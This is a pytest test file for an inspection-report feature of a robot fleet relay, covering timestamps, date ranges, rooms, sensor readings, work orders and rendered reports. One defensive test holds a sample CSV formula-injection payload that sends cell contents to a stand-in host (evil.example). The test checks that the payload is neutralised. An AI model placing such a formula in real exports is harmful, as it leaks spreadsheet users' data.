"""The inspection report as a plant manager reads it (issue 30, the record): the site, each capture's local date and
time (ISO 8601 with the offset in CSV and JSON, readable in HTML), room names on the plan and in the table, readings
with units and limits, statuses in words, who decided them; reports of a mission, a fleet group or a date range;
findings as work orders (CSV and JSON). Measured before: the HTML had no date, time or room, readings had no unit,
statuses were `needs_review`, and the CSV's times were epoch seconds.

The words are checked without sockets; the demo mission's report over a real relay (sim, SQLite) and a range over a
prepared database through the relay and through `xr-relay report`."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from dataclasses import replace
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import aiohttp
import pytest

from relay.cli.options import Options
from relay.config import FleetConfig, Site
from relay.inspection import report
from relay.inspection.records import CaptureRecord, FindingRecord, FindingStatus, MissionRecord, Step
from relay.inspection.report_rows import (
    Limit,
    RangeError,
    Reading,
    Room,
    SiteInfo,
    iso_time,
    number,
    parse_range,
    readable_time,
    room_at,
    rows_of,
    status_words,
    work_orders,
)
from relay.inspection.store import Store
from relay.twin.facility import Facility, load_facility
from tests.conftest import ROOT, RunningRelay, start_relay
from tests.helpers.inspection import TOKEN, missions, operator, relay_with_database

BERLIN = ZoneInfo("Europe/Berlin")


def berlin(text: str) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=BERLIN).timestamp()


# -- the words, without sockets -----------------------------------------------------------------------------------


def test_times_are_the_sites_wall_clock_with_the_offset_of_their_day() -> None:
    winter, summer = berlin("2026-11-24T14:03:12"), berlin("2026-07-01T09:00:00")
    assert iso_time(winter, BERLIN) == "2026-11-24T14:03:12+01:00"
    assert iso_time(summer, BERLIN) == "2026-07-01T09:00:00+02:00"  # daylight saving time counts
    assert datetime.fromisoformat(iso_time(winter, BERLIN)).timestamp() == winter
    assert readable_time(winter, BERLIN) == "Tue 24 Nov 2026, 14:03:12 CET"
    assert readable_time(summer, ZoneInfo("America/New_York")) == "Wed 1 Jul 2026, 03:00:00 EDT"
    # Without a site zone: the process's own (TZ), still with its offset.
    local = datetime.fromisoformat(iso_time(winter, None))
    assert local.utcoffset() == datetime.fromtimestamp(winter).astimezone().utcoffset() and local.timestamp() == winter


def test_a_range_is_whole_days_of_the_site_or_exact_instants_and_bad_ones_are_named() -> None:
    start, end = parse_range("2026-11-01", "2026-11-24", BERLIN)
    assert (start, end) == (berlin("2026-11-01T00:00:00"), berlin("2026-11-25T00:00:00"))  # "to" includes its day
    assert parse_range("2026-11-24T08:00+00:00", "2026-11-24T09:30", BERLIN) == (
        datetime.fromisoformat("2026-11-24T08:00+00:00").timestamp(),
        berlin("2026-11-24T09:30:00"),
    )
    for start_text, end_text, named in (
        (None, "2026-11-24", "'from' is required"),
        ("2026-11-01", None, "'to' is required"),
        ("2026-13-01", "2026-11-24", "'from' must be a date"),
        ("2026-11-01", "yesterday" * 100, "'to' must be a date"),
        ("2026-11-24", "2026-11-01", "'from' (2026-11-24) must be before 'to' (2026-11-01)"),
        ("2026-11-24T10:00", "2026-11-24T10:00", "must be before"),
    ):
        with pytest.raises(RangeError) as caught:
            parse_range(start_text, end_text, BERLIN)
        assert named in str(caught.value) and len(str(caught.value)) < 200, caught.value


def test_a_place_is_in_the_room_of_the_facility_file_that_holds_it() -> None:
    facility = load_facility(ROOT / "scenes" / "facility.yaml")
    rooms = tuple(facility.rooms)
    for room in rooms:
        assert room_at(rooms, *facility.room(room.name).centre) == room
    # Neighbours share their walls: a point on one belongs to the room whose centre is nearer.
    corridor, chemical = facility.room("corridor"), facility.room("chemical_storage")
    edge = corridor.max_y
    assert edge == chemical.min_y
    assert room_at(rooms, 1.0, edge).name == "chemical_storage"  # type: ignore[union-attr]  # nearer its centre
    assert room_at(rooms, 9.0, edge).name == "corridor"  # type: ignore[union-attr]
    assert room_at(rooms, -5.0, 1.0) is None


def test_readings_carry_their_unit_their_limit_and_whether_they_passed_it() -> None:
    assert Reading("gas", 698.2, Limit("ppm", 400.0)).text() == "gas 698.2 ppm (limit 400 ppm): over the limit"
    assert Reading("temperature", 27.31, Limit("°C", 45.0)).text() == "temperature 27.3 °C (limit 45 °C)"
    assert Reading("oxygen", 17.1, Limit("%", None, 19.5)).text() == "oxygen 17.1 % (minimum 19.5 %): under the minimum"
    assert Reading("ph", 6.5, Limit("", 9.0, 5.0)).text() == "ph 6.5 (range 5 to 9)"
    assert Reading("flow", 0.0123, Limit("m3/s")).text() == "flow 0.0123 m3/s"
    assert [status_words(s) for s in ("ok", "anomaly", "needs_review", "changed", "false_alarm")] == [
        "OK", "Anomaly", "Needs review", "Changed since last round", "False alarm",
    ]  # fmt: skip


def test_work_orders_are_the_findings_that_need_someone_with_a_due_date_by_priority() -> None:
    rooms = (Room("chemical_storage", "Chemical storage", 0.0, 3.0, 6.0, 10.0),)
    site = SiteInfo("Plant", BERLIN, rooms, {"robot1": {"gas": Limit("ppm", 400.0)}}, {"spill": "Leaking drum"})
    seen = berlin("2026-11-24T14:00:00")
    capture = CaptureRecord("c-1", "robot1", seen, 1.8, 6.9, 1.57, {"gas": 698.2}, "m-1.robot1", "spill", "ab" * 32)
    findings = [
        FindingRecord("f-1", "c-1", "robot1", 1.8, 8.2, "anomaly", "drum leaking", "rule", seen, seen, "m-1.robot1",
                      "spill"),
        FindingRecord("f-2", "c-1", "robot1", 1.8, 8.2, "ok", "", "operator", seen, seen, "m-1.robot1", "spill"),
        FindingRecord("f-3", "c-1", "robot1", 20.0, 8.2, "needs_review", "", "operator", seen, seen + 60),
    ]  # fmt: skip
    rows = rows_of(findings, {"c-1": capture}, site)
    orders = work_orders(rows, BERLIN, lambda sha: f"https://relay.example/captures/{sha}.jpg")
    assert [(o.reference, o.priority) for o in orders] == [("f-1", "high"), ("f-3", "medium")]  # ok: no order
    high, medium = orders
    assert (high.asset, high.asset_name, high.location, high.location_code) == (
        "spill", "Leaking drum", "Chemical storage", "chemical_storage",
    )  # fmt: skip
    assert high.description == (
        "Anomaly at Leaking drum in Chemical storage. Note: drum leaking. "
        "Readings past their limits: gas 698.2 ppm (limit 400 ppm): over the limit."
    )
    assert high.evidence_url == f"https://relay.example/captures/{'ab' * 32}.jpg"
    assert (high.reported, high.due) == ("2026-11-24T14:00:00+01:00", "2026-11-25T14:00:00+01:00")  # a day
    assert medium.due == "2026-12-01T14:00:00+01:00"  # a week
    # Its place is outside every room: the room is the one its capture was taken in.
    assert medium.location == "Chemical storage" and medium.description.startswith("Needs review at (20.00, 8.20) in")
    far = rows_of([findings[2]], {"c-1": replace(capture, x=30.0)}, site)
    assert far[0].room is None and work_orders(far, BERLIN, str)[0].location == ""
    # A place changed since the last round is one to go and look at within the week; a false alarm needs nobody.
    changes = [
        FindingRecord("f-4", "c-1", "robot1", 1.8, 8.2, "changed", "4.2 % of the view", "rule", seen, seen,
                      "m-1.robot1", "spill", None, 0.042, "c-0"),
        FindingRecord("f-5", "c-1", "robot1", 1.8, 8.2, "false_alarm", "a shadow", "operator", seen, seen + 60),
    ]  # fmt: skip
    [changed] = work_orders(rows_of(changes, {"c-1": capture}, site), BERLIN, str)
    assert (changed.reference, changed.priority, changed.due) == ("f-4", "medium", "2026-12-01T14:00:00+01:00")
    assert changed.description.startswith("Changed since last round at Leaking drum in Chemical storage. Note: 4.2 %")
    assert changed.status == "Changed since last round"


# -- the demo mission's report, over a real relay -----------------------------------------------------------------


class _Page(HTMLParser):
    """What a reader sees of a report: the status labels, the rooms on the plan, the findings table's rows of cells,
    and every <time> with its datetime."""

    TEXT_OF = ("td", "span", "text", "time")

    def __init__(self) -> None:
        super().__init__()
        self.statuses: list[str] = []
        self.plan_rooms: list[str] = []
        self.rows: list[list[str]] = []
        self.times: list[tuple[str, str]] = []
        self._open: list[tuple[str, dict[str, str], list[str]]] = []  # tag, attributes, its text so far

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("br", "img", "input", "link", "meta", "image", "rect", "circle", "polygon"):
            return  # void or self-closed here: never ended
        self._open.append((tag, {k: v or "" for k, v in attrs}, []))
        if tag == "tr" and self._inside("tbody") and self._inside_class("table", "findings"):
            self.rows.append([])

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        pass

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open[-1][0] != tag:
            return
        _, attrs, parts = self._open.pop()
        text = " ".join("".join(parts).split())
        if tag == "span" and attrs.get("class", "").startswith("status "):
            self.statuses.append(text)
        elif tag == "text" and self._inside_class("g", "room"):
            self.plan_rooms.append(text)
        elif tag == "time":
            self.times.append((attrs["datetime"], text))
        elif tag == "td" and self._inside_class("table", "findings") and self.rows:
            self.rows[-1].append(text)

    def handle_data(self, data: str) -> None:
        for _, _, parts in self._open:
            parts.append(data)

    def _inside(self, tag: str) -> bool:
        return any(t == tag for t, _, _ in self._open)

    def _inside_class(self, tag: str, name: str) -> bool:
        return any(t == tag and name in a.get("class", "").split() for t, a, _ in self._open)


def read_page(text: str) -> _Page:
    page = _Page()
    page.feed(text)
    return page


async def _get(http: aiohttp.ClientSession, url: str) -> tuple[int, str, Any]:
    async with http.get(url) as response:
        return response.status, await response.text(), response.headers


async def _run_the_demo(running: RunningRelay) -> str:
    """The demo mission on the sim, to its end; the group id its three robots share."""
    client = await operator(running)
    reply = await client.request({"identifier": "mission/start", "file": "demo"}, timeout=30)
    assert reply["identifier"] == "ack", reply
    await client.wait_for(lambda m: m["identifier"] == "mission" and m["state"] == "running")
    for _ in range(240):  # up to 120 s on a loaded machine: the robots cross their rooms at 0.6 m/s
        latest = missions(client)
        if len(latest) == 3 and all(m["state"] == "done" for m in latest.values()):
            break
        await asyncio.sleep(0.5)
    assert all(m["state"] == "done" for m in missions(client).values()), missions(client)
    await client.close()
    return next(iter(missions(client))).split(".")[0]


@pytest.mark.timeout(240)
async def test_the_demo_report_names_rooms_units_local_times_and_statuses_in_words(
    fleet_config: FleetConfig, tmp_path: Path
) -> None:
    facility = await asyncio.to_thread(load_facility, fleet_config.sim.world)  # type: ignore[arg-type]
    sensors = {s.name: s for s in fleet_config.robots[0].sensors}
    running = await relay_with_database(fleet_config, tmp_path)
    try:
        group = await _run_the_demo(running)
        started = time.time()
        today = datetime.now().astimezone().date()
        async with aiohttp.ClientSession() as http:
            reports = {
                kind: await _get(http, f"{running.url}/report/{group}.{kind}?token={TOKEN}") for kind in report.KINDS
            }
            ranged = await _get(http, f"{running.url}/report/range.csv?from={today}&to={today}&token={TOKEN}")
            assert all(status == 200 for status, _, _ in reports.values()), {k: v[:2] for k, v in reports.items()}
            orders = json.loads(reports["workorders.json"][1])["work_orders"]
            async with http.get(f"{orders[0]['evidence_url']}?token={TOKEN}") as image:
                assert image.status == 200 and (await image.read()).startswith(b"\xff\xd8")
    finally:
        await running.runner.cleanup()

    rows = list(csv.DictReader(io.StringIO(reports["csv"][1], newline="")))
    assert len(rows) == 3
    # Rooms: the facility file's room holding each finding's place, by name, in the CSV and the HTML.
    expected = {r["target"]: _room_title(facility, float(r["x"]), float(r["y"])) for r in rows}
    assert expected == {"spill": "Chemical storage", "panels": "Power distribution", "leak": "Plumbing"}
    assert {r["target"]: r["room"] for r in rows} == expected
    # Times: ISO 8601 with this process's offset, when the mission ran.
    for row in rows:
        when = datetime.fromisoformat(row["time"])
        assert when.utcoffset() == datetime.now().astimezone().utcoffset(), row["time"]
        assert started - 300 < when.timestamp() <= started, row["time"]
    # Readings with their units and limits from robots.yaml; statuses in words.
    by_target = {r["target"]: r for r in rows}
    assert {r["status"] for r in rows} == {"Anomaly", "OK"} and by_target["panels"]["status"] == "OK"
    gas = sensors["gas"]
    assert re.search(rf"gas \d+\.\d {gas.unit} \(limit {gas.warn_above:g} {gas.unit}\): over the limit",
                     by_target["spill"]["readings"]), by_target["spill"]  # fmt: skip
    warm = sensors["temperature"]
    assert f"{warm.unit} (limit {warm.warn_above:g} {warm.unit})" in by_target["panels"]["readings"]
    assert all(r["source"] == "rule" and r["image"].startswith(f"{running.url}/captures/") for r in rows)

    page = read_page(reports["html"][1])
    assert fleet_config.site.name and f"{fleet_config.site.name}: inspection report" in reports["html"][1]
    assert sorted(page.statuses) == ["Anomaly", "Anomaly", "OK"]
    assert sorted(page.plan_rooms) == sorted(r.title for r in facility.rooms)  # every room named on the plan
    table = {cells[4]: cells for cells in page.rows}  # column 5: the target
    assert {target: cells[3].split("(")[0].strip() for target, cells in table.items()} == {
        "Spill": "Chemical storage", "Panels": "Power distribution", "Leak": "Plumbing",
    }  # fmt: skip
    assert f"{gas.unit} (limit {gas.warn_above:g} {gas.unit}): over the limit" in table["Spill"][6]
    assert "Rule" in table["Spill"][8]
    for stamp, text in page.times:
        assert datetime.fromisoformat(stamp).tzinfo is not None
        assert re.fullmatch(r"(Mon|Tue|Wed|Thu|Fri|Sat|Sun) \d{1,2} [A-Z][a-z]{2} \d{4}, \d\d:\d\d:\d\d \S+", text)
    assert "3 findings: 1 OK, 2 anomalies." in reports["html"][1]

    payload = json.loads(reports["json"][1])
    assert [f["status_text"] for f in payload["findings"]].count("Anomaly") == 2
    assert all(datetime.fromisoformat(f["time"]).tzinfo is not None for f in payload["findings"])
    assert {f["room_title"] for f in payload["findings"]} == set(expected.values())
    assert {r["unit"] for f in payload["findings"] for r in f["readings"]} == {s.unit for s in sensors.values()}

    # Work orders: the two anomalies (the panels are OK), high priority, due a day after the capture.
    order_rows = list(csv.DictReader(io.StringIO(reports["workorders.csv"][1], newline="")))
    assert [r["asset"] for r in order_rows] == [o["asset"] for o in orders] and len(orders) == 2
    assert {o["asset"] for o in orders} == {"spill", "leak"} and {o["priority"] for o in orders} == {"high"}
    for order in orders:
        due, reported = datetime.fromisoformat(order["due"]), datetime.fromisoformat(order["reported"])
        assert due.timestamp() - reported.timestamp() == 86400 and due.tzinfo is not None
        assert order["location"] == expected[order["asset"]] and order["evidence_url"].startswith(running.url)
        assert by_target[order["asset"]]["note"] in order["description"]
    disposition = reports["workorders.csv"][2]["Content-Disposition"]
    assert disposition == f'attachment; filename="report-{group}.workorders.csv"'
    # The range of today holds the same three findings.
    assert sorted(r["finding"] for r in csv.DictReader(io.StringIO(ranged[1]))) == sorted(r["finding"] for r in rows)


def _room_title(facility: Facility, x: float, y: float) -> str:
    return next(r.title for r in facility.rooms if r.min_x < x < r.max_x and r.min_y < y < r.max_y)


# -- a date range -------------------------------------------------------------------------------------------------

#: Captures around the range 1 to 24 November 2026 in Berlin: which findings a report of it holds.
CAPTURES = {
    "before": "2026-10-31T23:59:59",
    "first": "2026-11-01T00:00:00",
    "middle": "2026-11-10T12:00:00",
    "last": "2026-11-24T23:59:59",
    "after": "2026-11-25T00:00:00",
}
IN_RANGE = ["f-first", "f-middle", "f-last"]


def _range_records(database: Path) -> None:
    with Store.open(str(database), database.with_name("inspection-images")) as store:
        for i, (name, when) in enumerate(CAPTURES.items()):
            mission = f"m-2026110{i}-000000-aaaaaa.robot1"
            t = berlin(when)
            store.save_mission(MissionRecord(mission, f"Round {i}", "robot1", (Step("capture", "spill"),), "done", 1,
                                             "", t - 60, t + 60))  # fmt: skip
            capture = store.add_capture(
                CaptureRecord(f"c-{name}", "robot1", t, 1.8, 6.9, 1.57, {"gas": 650.0}, mission, "spill"), b"\xff\xd8x"
            )
            status: FindingStatus = "needs_review" if name == "middle" else "anomaly"
            store.add_finding(FindingRecord(f"f-{name}", capture.id, "robot1", 1.8, 8.2, status, f"seen {name}",
                                            "operator", t, t, mission, "spill"))  # fmt: skip


async def test_a_range_report_holds_exactly_the_findings_captured_in_it(
    fleet_config: FleetConfig, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await asyncio.to_thread(_range_records, tmp_path / "inspection.sqlite")
    config = replace(fleet_config, site=Site("North plant", "Europe/Berlin"))
    running = await start_relay(config, options=Options(token=TOKEN, database=str(tmp_path / "inspection.sqlite")))
    base = f"{running.url}/report/range"
    try:
        async with aiohttp.ClientSession() as http:
            status, text, _ = await _get(http, f"{base}.csv?from=2026-11-01&to=2026-11-24&token={TOKEN}")
            assert status == 200, text
            assert [r["finding"] for r in csv.DictReader(io.StringIO(text, newline=""))] == IN_RANGE
            assert {r["time"][-6:] for r in csv.DictReader(io.StringIO(text))} == {"+01:00"}  # the site's zone
            # Exact instants: one second either side of midnight.
            query = "from=2026-11-24T23:59:59%2B01:00&to=2026-11-25T00:00:01%2B01:00"
            status, text, _ = await _get(http, f"{base}.json?{query}&token={TOKEN}")
            assert [f["id"] for f in json.loads(text)["findings"]] == ["f-last", "f-after"]
            status, text, _ = await _get(http, f"{base}.html?from=2026-11-01&to=2026-11-24&token={TOKEN}")
            page = read_page(text)
            assert status == 200 and sorted(page.statuses) == ["Anomaly", "Anomaly", "Needs review"]
            assert "North plant: inspection report" in text and "captures from 1 Nov 2026 to 24 Nov 2026" in text
            status, text, _ = await _get(http, f"{base}.workorders.json?from=2026-11-01&to=2026-11-24&token={TOKEN}")
            orders = json.loads(text)["work_orders"]
            assert [(o["reference"], o["priority"]) for o in orders] == [
                ("f-first", "high"), ("f-middle", "medium"), ("f-last", "high"),
            ]  # fmt: skip
            assert orders[1]["due"] == "2026-11-17T12:00:00+01:00"
            # No range: the page that asks for one, carrying the token it was opened with.
            status, text, _ = await _get(http, f"{base}.html?token={TOKEN}")
            assert status == 200 and 'type="date" name="from"' in text and f'value="{TOKEN}"' in text
            assert 'formaction="range.workorders.csv"' in text
            assert re.search(r'name="to" value="\d{4}-\d\d-\d\d"', text)  # the last seven days, to start with
            # A bad range: 400 naming it (HTML: the same page saying so); nothing is reported.
            status, text, _ = await _get(http, f"{base}.csv?from=2026-11-31&to=2026-12-01&token={TOKEN}")
            assert status == 400 and "'from' must be a date" in text and "2026-11-31" in text
            status, text, _ = await _get(http, f"{base}.html?from=2026-11-24&to=2026-11-01&token={TOKEN}")
            assert status == 400 and "must be before" in text and 'name="from" value="2026-11-24"' in text
            status, text, _ = await _get(http, f"{base}.csv?from=2026-11-01&token={TOKEN}")
            assert status == 400 and "'to' is required" in text
            # Too many findings for one report: refused, saying what to do.
            monkeypatch.setattr(report, "MAX_FINDINGS", 2)
            status, text, _ = await _get(http, f"{base}.html?from=2026-11-01&to=2026-11-24&token={TOKEN}")
            assert status == 400 and "more than 2 findings" in text and "narrow" in text
            # Without the token: the same 404 as anything else this token may not read.
            for url in (f"{base}.csv?from=2026-11-01&to=2026-11-24", f"{base}.html", f"{base}.html?token=guess"):
                status, text, _ = await _get(http, url)
                assert status == 404 and "no such report" in text
    finally:
        await running.runner.cleanup()


def test_xr_relay_report_writes_the_five_files_in_the_zone_asked(tmp_path: Path) -> None:
    database = tmp_path / "inspection.sqlite"
    _range_records(database)
    out = tmp_path / "out"
    config = str(ROOT / "robots.yaml")
    common = [sys.executable, "-m", "relay", "report", "--database", str(database), "--config", config]
    env = {**os.environ, "TZ": "America/New_York"}
    done = subprocess.run(
        [*common, "--from", "2026-11-01", "--to", "2026-11-24", "--origin", "https://relay.example:8443", "--out",
         str(out)],
        env=env, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    files = sorted(p.name for p in out.iterdir())
    stem = "report-range-2026-11-01_to_2026-11-24"
    assert files == sorted(f"{stem}.{kind}" for kind in report.KINDS), files
    rows = list(csv.DictReader(io.StringIO((out / f"{stem}.csv").read_text(encoding="utf-8"), newline="")))
    # Days of New York (TZ): Berlin's first capture, 1 Nov 00:00 there, is still 31 Oct in New York.
    assert [r["finding"] for r in rows] == ["f-middle", "f-last", "f-after"]
    assert {r["time"][-6:] for r in rows} == {"-05:00"} and {r["room"] for r in rows} == {"Chemical storage"}
    orders = json.loads((out / f"{stem}.workorders.json").read_text(encoding="utf-8"))["work_orders"]
    assert orders[0]["evidence_url"].startswith("https://relay.example:8443/captures/")
    # --time-zone wins over TZ; a mission by its group id; the files say where they are.
    done = subprocess.run(
        [*common, "--mission", "m-20261101-000000-aaaaaa", "--time-zone", "Asia/Tokyo", "--out", str(out)],
        env=env, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0 and "(1 finding, 1 work order)" in done.stdout, done
    text = (out / "report-m-20261101-000000-aaaaaa.csv").read_text(encoding="utf-8")
    assert next(csv.DictReader(io.StringIO(text)))["time"] == "2026-11-01T08:00:00+09:00"
    image = json.loads((out / "report-m-20261101-000000-aaaaaa.workorders.json").read_text())["work_orders"][0]
    assert Path(image["evidence_url"].removeprefix("file://")).read_bytes() == b"\xff\xd8x"
    # Bad input: exit 2 naming it, no file written.
    for args, named in (
        (["--mission", "m-nothing"], "no mission 'm-nothing'"),
        (["--from", "2026-11-01", "--to", "November"], "'to' must be a date"),
        (["--mission", "m-20261101-000000-aaaaaa", "--time-zone", "Mars/Olympus"], "--time-zone: no time zone"),
    ):
        done = subprocess.run([*common, *args, "--out", str(tmp_path / "bad")], env=env, capture_output=True,
                              text=True, timeout=60, check=False)  # fmt: skip
        assert done.returncode == 2 and named in done.stderr, (args, done.stderr)
        assert not (tmp_path / "bad").exists()


def test_work_order_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    """A target's name and a note are anyone's text: in the work orders' CSV, as in the report's, a cell a
    spreadsheet would run as a formula gets a leading quote; numbers and times stay as written."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    site = SiteInfo("Plant", BERLIN, (), {}, {"drum": hostile})
    t = berlin("2026-11-24T14:00:00")
    capture = CaptureRecord("c-1", "robot1", t, -1.5, 2.25, 0.0, {}, "m-1.robot1", "drum", "cd" * 32)
    finding = FindingRecord("f-1", "c-1", "robot1", -1.5, 2.25, "anomaly", "@SUM(A1)", "operator", t, t, None, "drum")
    rows = rows_of([finding], {"c-1": capture}, site)
    made = report.Report(report.Scope(mission="m-1"), site, [], rows, t)
    cells = next(csv.DictReader(io.StringIO(report.work_orders_csv(made, str), newline="")))
    assert cells["asset_name"] == "'" + hostile and cells["description"].startswith("Anomaly at =HYPERLINK")
    assert (cells["x"], cells["y"], cells["reported"]) == ("-1.500", "2.250", "2026-11-24T14:00:00+01:00")
    assert next(csv.DictReader(io.StringIO(report.as_csv(made, str))))["note"] == "'@SUM(A1)"


def test_a_change_carries_its_score_and_baseline_into_the_csv_and_the_json() -> None:
    """The before image a card will show is named in every form of the report; other findings leave both empty."""
    site = SiteInfo("Plant", BERLIN, (), {}, {"drum": "Drum"})
    t = berlin("2026-11-24T14:00:00")
    capture = CaptureRecord("c-2", "robot1", t, -1.5, 2.25, 0.0, {}, "m-1.robot1", "drum", "cd" * 32)
    findings = [
        FindingRecord("f-1", "c-2", "robot1", -1.5, 2.25, "changed", "4.2 % of the view", "rule", t, t, "m-1.robot1",
                      "drum", None, 0.04213, "c-1"),
        FindingRecord("f-2", "c-2", "robot1", -1.5, 2.25, "ok", "", "rule", t, t, "m-1.robot1", "drum"),
    ]  # fmt: skip
    made = report.Report(report.Scope(mission="m-1"), site, [], rows_of(findings, {"c-2": capture}, site), t)
    cells = list(csv.DictReader(io.StringIO(report.as_csv(made, str), newline="")))
    assert [(c["status"], c["change"], c["baseline"]) for c in cells] == [
        ("Changed since last round", "0.0421", "c-1"), ("OK", "", ""),
    ]  # fmt: skip
    data = json.loads(report.as_json(made, str))
    assert [(f["status"], f["status_text"], f["change"], f["baseline"]) for f in data["findings"]] == [
        ("changed", "Changed since last round", 0.04213, "c-1"), ("ok", "OK", None, None),
    ]  # fmt: skip


# -- what changed since the round before: three rounds of the simulator ---------------------------------------------


def _three_rounds(database: Path) -> tuple[FleetConfig, dict[str, list[CaptureRecord]], dict[str, list[bytes]]]:
    """Three rounds of the demo's targets a minute apart, as the relay keeps them: each target seen by the sim's
    camera from its standoff (the spill grown as the world's clock says) with the sim's readings there, the rule's
    finding, and what the relay's own ChangeWatch makes of it (a change since the round before, a reading heading
    for its limit). Mission ``m-round<n>`` groups round n's robots."""
    from relay.config import Lens, load_config
    from relay.inspection.change_watch import ChangeWatch
    from relay.inspection.targets import facility_targets, standoff
    from relay.sim.camera import SimCamera, rgb_to_jpeg
    from relay.sim.world import SimWorld

    config = load_config(ROOT / "robots.yaml")
    facility = load_facility(ROOT / "scenes" / "facility.yaml")
    targets = {t.id: t for t in facility_targets(facility)}
    robots = {"spill": ("robot1", (3.0, 1.5)), "panels": ("robot2", (9.0, 1.5)), "leak": ("robot3", (15.0, 1.5))}
    poses = {name: standoff(targets[name], facility.grid, near) for name, (_, near) in robots.items()}
    camera = SimCamera.load(ROOT / "scenes" / "facility.glb")
    lens = camera.fit_lens(Lens("equidistant", 180.0), 480, 480)
    world = SimWorld(config, lambda *args: None)
    sensors = {s.name: s for s in config.robots[0].sensors}
    start = 1795388500.0
    captures: dict[str, list[CaptureRecord]] = {name: [] for name in robots}
    jpegs: dict[str, list[bytes]] = {name: [] for name in robots}
    with Store.open(str(database), database.with_name("inspection-images")) as store:

        async def on_store(work: Any, request_id: Any = None) -> Any:
            return work(store)

        watch = ChangeWatch(on_store, lambda: start + world.time)

        async def rounds() -> None:
            for n in (1, 2, 3):
                t = start + world.time
                for name, (robot, _) in robots.items():
                    mission = f"m-round{n}.{robot}"
                    store.save_mission(MissionRecord(mission, f"Round {n}", robot, (Step("inspect", name),), "done", 1,
                                                     "", t, t + 30))  # fmt: skip
                    x, y, yaw = poses[name]
                    jpeg = rgb_to_jpeg(camera.render(x, y, yaw, lens, spill=world.spill_at()))
                    fields = world.fields_now()
                    readings = {s: round(fields[spec.hazard].mean(x, y), 3) for s, spec in sensors.items()}
                    capture = store.add_capture(
                        CaptureRecord(f"c-{n}-{name}", robot, t, x, y, yaw, readings, mission, name, None, 480, 480),
                        jpeg,
                    )
                    captures[name].append(capture)
                    jpegs[name].append(jpeg)
                    past = [s for s, v in readings.items() if sensors[s].is_warning(v)]
                    store.add_finding(FindingRecord(f"f-{n}-{name}", capture.id, robot, targets[name].x,
                                                    targets[name].y, "anomaly" if past else "ok", ", ".join(past),
                                                    "rule", t, t, mission, name))  # fmt: skip
                    changed = await watch.since_last_round(capture, jpeg, (targets[name].x, targets[name].y))
                    trends = await watch.trends(capture, sensors)
                    for made in [changed, *watch.toward_limits(capture, trends, (targets[name].x, targets[name].y))]:
                        if made is not None:
                            store.add_finding(made)
                for _ in range(60):
                    world.step(1.0)  # a minute of simulated time between rounds, stepped by hand

        try:
            asyncio.run(rounds())
        finally:
            watch.close()
    return config, captures, jpegs


@pytest.mark.skipif(not __import__("relay.sim.camera").sim.camera.embree_available(), reason="renders need Embree")
def test_the_third_rounds_report_shows_each_target_before_and_after_and_its_readings_over_three_rounds(
    tmp_path: Path,
) -> None:
    """Round 3's report: every row of a target shows round 2's capture of it beside round 3's (the images the sim's
    camera made), and each reading's trend over the three rounds, as a sparkline with its limit and in numbers; the
    CSV and the JSON carry the previous round's readings and each reading's least-squares slope a round."""
    import base64

    import numpy as np

    from relay.inspection.trend import fit, series_of

    database = tmp_path / "inspection.sqlite"
    config, captures, jpegs = _three_rounds(database)
    with Store.open(str(database), database.with_name("inspection-images")) as store:
        site = report.site_of(config, store)
        made = report.collect(store, report.Scope(mission="m-round3"), site)
        html = report.render(made, "html", store, None, str)
        table = report.as_csv(made, lambda sha: f"/captures/{sha}.jpg")
        data = json.loads(report.as_json(made, lambda sha: f"/captures/{sha}.jpg"))
    rows = re.findall(r"<tr><td>\d+</td>.*?</tr>", html, re.S)
    cells = read_page(html).rows
    assert len(rows) == len(cells) == len(made.rows) >= 3
    seen = set()
    for raw, text, row in zip(rows, cells, made.rows, strict=True):
        target = row.finding.target
        assert target is not None
        seen.add(target)
        previous, now = captures[target][1], captures[target][2]
        assert row.capture == now and row.before == previous
        # Before and after: round 2's image beside round 3's, the before first. (The panels' and the leak's views did
        # not change: the sim renders them to the same bytes each round; the spill's grew each round.)
        earlier, later = raw.split('<figure class="after">')
        assert '<figure class="before">' in earlier and "Before: <time" in earlier
        assert base64.b64encode(jpegs[target][1]).decode() in earlier.split('<figure class="before">')[1]
        assert base64.b64encode(jpegs[target][2]).decode() in later and "This round: <time" in later
        if target == "spill":
            assert base64.b64encode(jpegs[target][0]).decode() not in raw
        # Each reading's trend: three points on the sparkline, the three values in words, its limit dashed.
        trend_text = text[9]
        for sensor, spec in site.limits[row.finding.robot].items():
            values = [c.readings[sensor] for c in captures[target]]
            assert f"{sensor}: {', '.join(number(v) for v in values)} {spec.unit}" in trend_text, (sensor, trend_text)
        assert raw.count('<svg class="trend"') == 3 and raw.count('<line class="limit"') == 3
        assert all(len(re.findall(r"<circle ", svg)) == 3 for svg in re.findall(r'<svg class="trend".*?</svg>', raw))
    assert seen == {"spill", "panels", "leak"}
    # The spill grew between the rounds: its change was found against round 2's capture.
    assert any(r.finding.status == "changed" and r.finding.baseline == "c-2-spill" for r in made.rows)

    by_finding = {r["finding"]: r for r in csv.DictReader(io.StringIO(table, newline=""))}
    for item in data["findings"]:
        target, cells_of = item["target"], by_finding[item["id"]]
        previous = captures[target][1]
        assert item["previous_capture"] == cells_of["previous_capture"] == previous.id
        assert item["previous_image_url"] == cells_of["previous_image"] == f"/captures/{previous.image}.jpg"
        for reading in item["readings"]:
            sensor = reading["sensor"]
            values = [c.readings[sensor] for c in captures[target]]
            assert reading["previous"] == values[1] and [r["value"] for r in reading["rounds"]] == values
            # The slope a round: numpy's least squares over the capture times, times the minute between rounds.
            times = [c.t for c in captures[target]]
            per_second = np.polyfit(np.array(times) - times[-1], values, 1)[0]
            assert reading["slope"] == pytest.approx(per_second * 60.0, abs=1e-6)
            assert reading["slope"] == pytest.approx(fit(series_of(captures[target], sensor))[0])  # type: ignore[index]
            unit = f" {reading['unit']}" if reading["unit"] else ""
